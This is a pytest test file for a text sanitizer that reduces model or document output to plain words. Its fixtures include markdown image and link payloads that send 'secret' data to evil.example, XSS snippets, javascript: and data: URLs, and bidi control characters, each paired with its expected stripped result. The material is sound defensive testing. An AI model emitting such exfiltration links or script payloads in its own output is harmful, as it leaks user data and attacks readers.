"""What a model or a document says is shown as plain words, whatever it holds."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from strongroom.flows.answer.plainly import ADDRESS, plainly


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("The **cellar** was `flooded` in _1934_.", "The cellar was flooded in 1934."),
        ("# Heading\n\n- one\n- two", "Heading one two"),
        ("See [the report](https://evil.example/?q=secret).", "See the report."),
        ("![pixel](https://evil.example/x.png?data=secret)Done", "pixelDone"),
        ("![pixel][1x] and [text][ref]", "pixel and text"),
        ("It is here: https://evil.example/steal?x=1 now", f"It is here: {ADDRESS} now"),
        ("javascript:alert(1)", ADDRESS),
        ("data:text/html;base64,AAAA", ADDRESS),
        ("<img src=x onerror=alert(1)>Hello<script>alert(1)</script>", "Helloalert(1)"),
        ("<a href='//evil.example'>here", "here"),
        ("2 < 3 and 5 > 4", "2 \u2039 3 and 5 \u203a 4"),
        ("It closed in 1931 [2].", "It closed in 1931 [2]."),
        ("snake_case and 5*3 stay [1, 2]", "snake_case and 5*3 stay [1, 2]"),
        ("left\u202eright\u200b \x1b[31mred\x00", "leftright [31mred"),
        ("one\r\ntwo\u2028three", "one two three"),
        ("", ""),
    ],
)
def test_only_words_are_left(said: str, shown: str):
    assert plainly(said) == shown


@given(st.text(alphabet=st.sampled_from(list("ab <>[]()!/:*_`#\n\\\"'=.&;x1\u202e\u200b")), max_size=60))
def test_nothing_that_a_program_would_follow_is_left(said: str):
    plain = plainly(said)
    assert "<" not in plain
    assert ">" not in plain
    assert "](" not in plain.replace("] (", "](") or "http" not in plain
    assert "://" not in plain or not plain.split("://")[0][-1:].isalpha()
    assert "\n" not in plain
    assert plainly(plain) == plainly(plainly(plain))


def test_a_long_text_of_brackets_takes_no_long_time():
    assert plainly("[" * 20_000 + "<" * 20_000)
